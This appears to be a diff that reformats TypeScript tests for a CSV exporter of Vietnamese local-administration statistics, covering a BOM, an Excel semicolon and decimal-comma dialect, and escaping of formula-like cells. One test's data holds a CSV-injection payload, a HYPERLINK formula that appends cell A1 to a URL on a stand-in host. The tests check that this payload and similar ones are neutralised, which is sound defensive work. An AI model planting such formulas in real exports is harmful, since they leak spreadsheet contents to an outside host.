@@ -19,21 +19,25 @@ const table: ExportTable = {
 }
 
 describe('toCsv', () => {
-  it('starts with a BOM, keeps Vietnamese as is, writes rates as percentage numbers and blanks for missing values', () => {
-    const csv = toCsv(table)
-    expect(csv.charCodeAt(0)).toBe(0xfeff)
-    expect(csv.slice(1).split('\r\n')).toEqual([
-      'Đơn vị,Tỷ lệ hồ sơ trực tuyến (%),Tiếp nhận,Trạng thái',
-      'Xã Tân Quới,55.89,9286,Đạt',
-      '"Xã ""Mới"", thử",,0,',
-      '',
-    ])
-  })
+  it(
+    'starts with a BOM, keeps Vietnamese as is, writes rates ' + 'as percentage numbers and blanks for missing values',
+    () => {
+      const csv = toCsv(table)
+      expect(csv.charCodeAt(0)).toBe(0xfeff)
+      expect(csv.slice(1).split('\r\n')).toEqual([
+        'Đơn vị,Tỷ lệ hồ sơ trực tuyến (%),Tiếp nhận,Trạng thái',
+        'Xã Tân Quới,55.89,9286,Đạt',
+        '"Xã ""Mới"", thử",,0,',
+        '',
+      ])
+    },
+  )
 })
 
 describe('toCsv for Excel with Vietnamese regional settings', () => {
   const changes: ExportTable = {
-    sheet: 'Theo tháng', title: 'Theo tháng',
+    sheet: 'Theo tháng',
+    title: 'Theo tháng',
     columns: [
       { key: 'month', label: 'Tháng', kind: 'month' },
       { key: 'name', label: 'Đơn vị', kind: 'text' },
@@ -47,15 +51,18 @@ describe('toCsv for Excel with Vietnamese regional settings', () => {
     ],
   }
 
-  it('separates with semicolons, writes decimal commas and months as MM/yyyy, quotes a name holding a semicolon', () => {
-    const lines = toCsv(changes, { pointsUnit: 'điểm %', dialect: CSV_EXCEL_VI }).slice(1).split('\r\n')
-    expect(lines).toEqual([
-      'Tháng;Đơn vị;Tỷ lệ (%);Thay đổi (điểm %);Tiếp nhận',
-      '06/2021;"Xã Tân Quới; Tháp Mười";55,89;-5,25;12345',
-      '07/2021;Xã An Phong;;34,3;0',
-      '',
-    ])
-  })
+  it(
+    'separates with semicolons, writes decimal commas and ' + 'months as MM/yyyy, quotes a name holding a semicolon',
+    () => {
+      const lines = toCsv(changes, { pointsUnit: 'điểm %', dialect: CSV_EXCEL_VI }).slice(1).split('\r\n')
+      expect(lines).toEqual([
+        'Tháng;Đơn vị;Tỷ lệ (%);Thay đổi (điểm %);Tiếp nhận',
+        '06/2021;"Xã Tân Quới; Tháp Mười";55,89;-5,25;12345',
+        '07/2021;Xã An Phong;;34,3;0',
+        '',
+      ])
+    },
+  )
 
   it('the standard CSV keeps commas, decimal dots and ISO months; its points header also says "điểm %"', () => {
     const lines = toCsv(changes, { pointsUnit: 'điểm %' }).slice(1).split('\r\n')
@@ -86,22 +93,34 @@ describe('CSV cells a spreadsheet would evaluate', () => {
     ],
   }
 
-  it('start with an apostrophe when they are text beginning with = + - @ tab or CR; negative numbers stay numbers', () => {
-    const lines = toCsv(hostile).slice(1).split('\r\n')
-    expect(lines.slice(1, -1)).toEqual([
-      '"\'=HYPERLINK(""http://x.example/?""&A1,""Xem"")",-5.2,-3',
-      "'+84 Xã Thử,1,7",
-      "'-Xã Thử,,0",
-      "'@SUM(A1:A9),,0",
-      "'\t=1+1,,0",
-      '"\'\r=1+1",,0',
-      'Xã Tân Quới - Tháp Mười,,0',
-    ])
-  })
+  it(
+    'start with an apostrophe when they are text beginning ' + 'with = + - @ tab or CR; negative numbers stay numbers',
+    () => {
+      const lines = toCsv(hostile).slice(1).split('\r\n')
+      expect(lines.slice(1, -1)).toEqual([
+        '"\'=HYPERLINK(""http://x.example/?""&A1,""Xem"")",-5.2,-3',
+        "'+84 Xã Thử,1,7",
+        "'-Xã Thử,,0",
+        "'@SUM(A1:A9),,0",
+        "'\t=1+1,,0",
+        '"\'\r=1+1",,0',
+        'Xã Tân Quới - Tháp Mười,,0',
+      ])
+    },
+  )
 
   it('the rule itself: only the first character counts', () => {
-    expect(['=1', '+1', '-1', '@1', '\t1', '\r1', '1-1', 'Xã =1', ''].map(asSpreadsheetText))
-      .toEqual(["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", '1-1', 'Xã =1', ''])
+    expect(['=1', '+1', '-1', '@1', '\t1', '\r1', '1-1', 'Xã =1', ''].map(asSpreadsheetText)).toEqual([
+      "'=1",
+      "'+1",
+      "'-1",
+      "'@1",
+      "'\t1",
+      "'\r1",
+      '1-1',
+      'Xã =1',
+      '',
+    ])
   })
 })
 
